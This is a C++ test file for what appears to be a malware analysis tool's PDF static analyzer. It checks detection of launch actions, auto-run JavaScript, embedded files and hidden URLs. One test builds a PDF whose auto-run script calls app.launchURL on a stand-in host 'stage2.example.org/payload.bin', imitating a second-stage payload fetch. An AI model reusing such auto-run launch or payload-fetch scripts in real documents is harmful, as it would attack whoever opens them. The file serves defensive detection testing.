// PDF documents through the whole static stage: result.pdf, embedded files as extracted_files
// and children, scripts and action targets into indicators, and the signatures of
// rules/signatures/pdf.yaml (the library's own cases are in libs/pdf/tests).
#include <algorithm>
#include <catch2/catch.hpp>

#include "../../archive/tests/archive_test_support.h"
#include "kensa/core/file.h"
#include "kensa/static_analysis/static_analyzer.h"

namespace kensa::static_analysis {
namespace {

using archive::testing::Workspace;

const std::string kCorkami = "../shared/corpora/corkami/pdf/";

const StaticAnalyzer& Analyzer() {
  static const std::unique_ptr<StaticAnalyzer> analyzer = [] {
    std::vector<std::string> warnings;
    auto created = StaticAnalyzer::Create(StaticConfig{}, &warnings);
    REQUIRE(created.has_value());
    return std::move(*created);
  }();
  return *analyzer;
}

const analysis::v1::Signature* FindSignature(const analysis::v1::StaticResult& result, const std::string& name) {
  const auto it = std::find_if(result.signatures().begin(), result.signatures().end(),
                               [&](const auto& signature) { return signature.name() == name; });
  return it == result.signatures().end() ? nullptr : &*it;
}

analysis::v1::StaticResult AnalyzeFile(const std::string& path, std::vector<ExtractedChild>* children = nullptr) {
  auto bytes = ReadFileBounded(path, 64ull << 20);
  REQUIRE(bytes.has_value());
  auto result = Analyzer().Analyze(*bytes, path, AnalyzeOptions{}, children);
  REQUIRE(result.has_value());
  return std::move(*result);
}

TEST_CASE("a PDF whose OpenAction launches a program gets the critical launch signature", "[pdf]") {
  const auto result = AnalyzeFile(kCorkami + "launch.pdf");
  CHECK(result.sample().file_type().format() == "pdf");
  REQUIRE(result.pdf().actions_size() == 1);
  CHECK(result.pdf().actions(0).target() == "VIRUS.exe");
  const auto* signature = FindSignature(result, "pdf_launch_action_auto_run");
  REQUIRE(signature != nullptr);
  CHECK(signature->severity() == analysis::v1::SEVERITY_CRITICAL);
  REQUIRE(signature->evidence_size() == 1);
  CHECK(signature->evidence(0).value() == "VIRUS.exe line 1 line 2 line 3 at catalog /OpenAction (object 5, offset 399)");
  CHECK(FindSignature(result, "pdf_launch_action") != nullptr);
}

TEST_CASE("a PDF's OpenAction script is a signature with its place as evidence", "[pdf]") {
  const auto result = AnalyzeFile(kCorkami + "javascript.pdf");
  const auto* signature = FindSignature(result, "pdf_javascript_auto_run");
  REQUIRE(signature != nullptr);
  CHECK(signature->severity() == analysis::v1::SEVERITY_HIGH);
  CHECK(signature->evidence(0).value().starts_with("catalog /OpenAction (object 1, offset 52): app.alert("));
  CHECK(std::find(signature->attack_techniques().begin(), signature->attack_techniques().end(), "T1059.007") !=
        signature->attack_techniques().end());
}

TEST_CASE("a PDF attachment becomes a child sample with origin \"pdf embedded file\"", "[pdf]") {
  std::vector<ExtractedChild> children;
  const auto result = AnalyzeFile(kCorkami + "attachedNames.pdf", &children);
  REQUIRE(result.extracted_files_size() == 1);
  CHECK(result.extracted_files(0).name() == "simple.txt");
  CHECK(result.extracted_files(0).origin() == "pdf embedded file");
  CHECK(result.extracted_files(0).sha256() == "7f83b1657ff1fc53b92dc18148a1d65dfc2d4b1fa3d677284addd200126d9069");
  REQUIRE(children.size() == 1);
  CHECK(std::string(children[0].data.begin(), children[0].data.end()) == "Hello World!");
  CHECK(children[0].info.name() == "simple.txt");
  CHECK(FindSignature(result, "pdf_embedded_file") != nullptr);
}

TEST_CASE("a URL only inside a compressed script becomes an indicator from the script", "[pdf]") {
  Workspace workspace;
  const std::string script = "app.launchURL('http://stage2.example.org/payload.bin', true);";
  const std::string pdf =
      "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS 3 0 R >> >>\nendobj\n"
      "2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n3 0 obj\n<< /Length " +
      std::to_string(script.size()) + " >>\nstream\n" + script + "\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n";
  workspace.Write("plain.pdf", pdf);
  // qpdf exits 3 when it succeeded with warnings (here: the missing cross-reference table).
  workspace.Run("qpdf --compress-streams=y plain.pdf packed.pdf 2>/dev/null || test $? -eq 3");
  const auto bytes = workspace.Read("packed.pdf");
  REQUIRE(std::search(bytes.begin(), bytes.end(), script.begin(), script.end()) == bytes.end());

  const auto result = Analyzer().Analyze(bytes, "packed.pdf");
  REQUIRE(result.has_value());
  const auto& indicators = result->indicators();
  const auto url = std::find_if(indicators.begin(), indicators.end(), [](const auto& indicator) {
    return indicator.value() == "http://stage2.example.org/payload.bin";
  });
  REQUIRE(url != indicators.end());
  CHECK(url->source() == "pdf.javascript:catalog /OpenAction");
  CHECK(FindSignature(*result, "pdf_javascript_auto_run") != nullptr);
}

}  // namespace
}  // namespace kensa::static_analysis
